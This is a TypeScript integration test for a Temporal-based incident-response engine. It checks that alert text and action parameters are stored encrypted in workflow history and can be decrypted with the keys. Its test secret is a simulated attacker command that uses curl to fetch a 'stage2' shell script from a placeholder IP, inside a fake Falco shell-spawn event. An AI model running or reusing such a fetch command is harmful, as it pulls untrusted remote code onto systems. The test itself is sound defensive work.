import { randomBytes } from 'node:crypto';
import type { Client } from '@temporalio/client';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runTalon } from '../support/cli.ts';
import { HttpTarget } from '../support/http-target.ts';
import { falcoEvent, runPlaybook, startTestWorker, temporalAddress, testClient, testConfig, type TestWorker } from '../support/temporal.ts';

// Payload encryption on the real dev server: what Temporal stores is ciphertext; the engine, and
// the CLI given the keys, read it back.

const KEYS = [`2026-11:${randomBytes(32).toString('base64')}`];
const SECRET = `curl -s http://203.0.113.9/stage2-${randomBytes(4).toString('hex')}.sh`;

let target: HttpTarget;
let worker: TestWorker;
let encrypted: Client;
let plain: Client;

beforeAll(async () => {
  target = await new HttpTarget().start();
  target.route('/hook', 200, 200);
  worker = await startTestWorker(testConfig({ encryption: { keys: KEYS } }));
  encrypted = await testClient(KEYS);
  plain = await testClient();
});

afterAll(async () => {
  await worker?.stop();
  await encrypted?.connection.close();
  await plain?.connection.close();
  await target?.stop();
});

describe('payload encryption (AES-256-GCM codec)', () => {
  it('stores no alert text, parameter or result in clear in history; the engine and `talon replay` read it', async () => {
    const event = falcoEvent({ output: `Shell spawned (cmdline=${SECRET})`, output_fields: { 'proc.cmdline': SECRET, 'user.name': 'mallory' } });
    const rules = `- rule: r
  match: { rules: [Terminal shell in container] }
  actions:
    - action: call
      actionner: http:request
      parameters: { url: "${target.url}/hook", body: { cmd: "\${PROC_CMDLINE}" } }
`;
    const { report, workflowId } = await runPlaybook(encrypted, worker, rules, event);
    expect(report.rules[0]?.actions[0]?.status).toBe('success');
    // The action saw the clear text (the worker decrypted its input).
    expect(JSON.parse(target.requestsTo('/hook')[0]?.body ?? '{}')).toEqual({ cmd: SECRET });

    // Raw history, as anyone with read access to Temporal sees it: ciphertext only.
    const raw = JSON.stringify(await plain.workflow.getHandle(workflowId).fetchHistory());
    expect(raw).not.toContain('stage2-');
    expect(raw).not.toContain(Buffer.from('stage2-').toString('base64').slice(0, 8));
    expect(raw).not.toContain('mallory');
    expect(raw).toContain(Buffer.from('binary/encrypted').toString('base64'));
    // With the keys, the same history decodes.
    const decoded = await encrypted.workflow.getHandle(workflowId).result();
    expect(JSON.stringify(decoded)).toContain('call');

    const replay = await runTalon(['replay', workflowId], { env: { TEMPORAL_ADDRESS: temporalAddress(), ENCRYPTION_KEYS: KEYS.join(',') } });
    expect(replay.stderr).toBe('');
    expect(replay.stdout).toContain('deterministic');
  });
});
